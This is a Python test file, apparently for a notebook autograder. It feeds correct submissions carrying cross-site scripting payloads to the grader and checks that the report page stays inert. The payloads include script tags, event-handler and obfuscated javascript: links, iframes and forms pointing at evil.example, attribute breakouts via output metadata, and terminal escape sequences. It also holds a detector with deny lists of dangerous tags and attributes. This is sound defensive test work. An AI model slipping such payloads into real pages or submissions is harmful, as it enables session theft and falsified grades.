"""Cases 81 to 86: what is shown to the instructor and to other students.

None of these costs a point; the page that is made of them must be inert. That nothing runs in a
browser is asserted where one is there, by tests/adapters/test_inert_pages.py.
"""

from __future__ import annotations

from html.parser import HTMLParser

from tests.hostile.model import Attack, Case, Seen, both, code

CLEANED = both("an allow-list for text and pixels; pages are cleaned and forbid scripts")
ATTRIBUTES = ("srcdoc", "formaction", "action", "background", "ping", "poster", "http-equiv")
ELEMENTS = ("iframe", "object", "embed", "form", "base", "applet", "frame", "portal")


class Live(HTMLParser):
    """Collects whatever in a page could run, load or submit and bears our mark."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Judge a tag."""
        given = [(name, "".join((value or "").split()).lower()) for name, value in attrs]
        bad = [n for n, v in given if n.startswith("on") or n in ATTRIBUTES or "javascript:" in v]
        # A link does nothing until somebody follows it.
        bad += [n for n, v in given if "evil.example" in v and (tag, n) != ("a", "href")]
        if tag in ELEMENTS or [name for name in bad if name != "http-equiv"]:
            self.found.append(f"<{tag} {attrs}>")
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        """Leave a script."""
        self._in_script = False

    def handle_data(self, data: str) -> None:
        """Look into scripts and styles."""
        if self._in_script and ("evil" in data or "alert(" in data):
            self.found.append(data[:200])


def page_is_inert(seen: Seen) -> None:
    """Nothing in the page runs, and it shows the true score once for each exercise."""
    page = seen.page()
    live = Live()
    live.feed(page)
    assert live.found == [], live.found
    assert "double: 2 of 2 points." in page, page[-3000:]
    assert "\x1b" not in page


def shown(name: str, *, answer: str = "", cell: str = "") -> Attack:
    """Return a right submission whose written answer or outputs hold something else, too."""
    cells = {"why": answer} if answer else {}
    if cell:
        cells["double"] = code(cell) + "\ndef double(x):\n    return 2 * x"
    return Attack(name, cells, look=page_is_inert)


CASES = [
    Case(
        81,
        "scripts in markdown",
        CLEANED,
        (
            shown(
                "in an answer",
                answer=code("""
                    <script>alert("evil")</script> <SCRIPT SRC=//evil.example/x.js></SCRIPT>
                    <svg><script>alert("evil")</script></svg>
                    <scr<script>ipt>alert("evil")</scr</script>ipt>
                    <style>@import "//evil.example/x.css"; .score { display: none }</style>

                    $x<script>alert("evil")</script>$ `<script>` <!-- <script>alert("evil") -->
                """),
            ),
        ),
    ),
    Case(
        82,
        "`onerror`, `javascript:`",
        CLEANED,
        (
            shown(
                "in an answer",
                answer=code("""
                    <img src=x onerror=alert("evil")> <svg onload=alert("evil")>
                    <details open ontoggle=alert("evil")>x</details>
                    [a](javascript:alert("evil")) [b](java&#115;cript:alert("evil"))
                    [c]( jav&Tab;ascript:alert("evil")) <a href="\tjava\nscript:alert(1)">d</a>
                    ![e](http://evil.example/x.png) ![f][ref] <a ping=//evil.example/ href=#>g</a>

                    [ref]: http://evil.example/y.png
                """),
            ),
        ),
    ),
    Case(
        83,
        "HTML, frames and JavaScript as output",
        CLEANED,
        (
            shown(
                "of a cell",
                cell="""
                    from IPython.display import HTML, IFrame, Javascript, SVG, Markdown, display
                    display(HTML('<script>alert("evil")</script>'))
                    display(IFrame("http://evil.example/", 10, 10), Javascript('alert("evil")'))
                    display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'))
                    display(Markdown('<img src=x onerror=alert("evil")>'))
                    display({"application/vnd.vega.v5+json": "{}",
                             "text/latex": "$\\\\href{javascript:alert(1)}{x}$",
                             "image/png": '"><img src=x onerror=alert("evil")>',
                             "image/svg+xml": "<svg onload=alert(1)>"}, raw=True)
                """,
            ),
        ),
    ),
    Case(
        84,
        "`</div><h1>Score 100`",
        CLEANED,
        (
            shown(
                "in an answer, an output and an exception",
                answer='</div></div></body><h1>Score 100</h1><form action="//evil.example/">',
                cell="""
                    print('</div></pre><h1>Score 100</h1><iframe src="//evil.example/">')
                    class E(Exception): pass
                    E.__name__ = "</pre><iframe>"
                    try:
                        raise E("<iframe>")
                    except E:
                        get_ipython().showtraceback()
                """,
            ),
        ),
    ),
    Case(
        85,
        "output metadata that becomes an attribute",
        both("output metadata is dropped"),
        (
            shown(
                "a width with an event handler",
                cell="""
                    from IPython.display import Image, display
                    pixel = bytes.fromhex("89504e470d0a1a0a")
                    wide = {"image/png": {"width": '1" onerror="alert(1)', "height": '"><script>'}}
                    display({"image/png": pixel}, metadata=wide, raw=True)
                    get_ipython().recorder.outputs.append({
                        "output_type": "display_data", "metadata": wide,
                        "data": {"image/png": "iVBORw0KGgo="}})
                """,
            ),
        ),
    ),
    Case(
        86,
        "ANSI and OSC sequences",
        both("control characters are replaced, in pages and in the terminal"),
        (
            shown(
                "in outputs and exceptions",
                cell=r"""
                    print("\x1b[2J\x1b]0;title\x07\x1b]8;;http://evil.example/\x07link\x1b]8;;\x07")
                    print("\x9b31m\x08\x08\x7f\r\x00 \u202e0.5 fo 5")
                    try:
                        raise ValueError("\x1b]52;c;ZXZpbA==\x07")
                    except ValueError:
                        get_ipython().showtraceback()
                """,
            ),
        ),
    ),
]
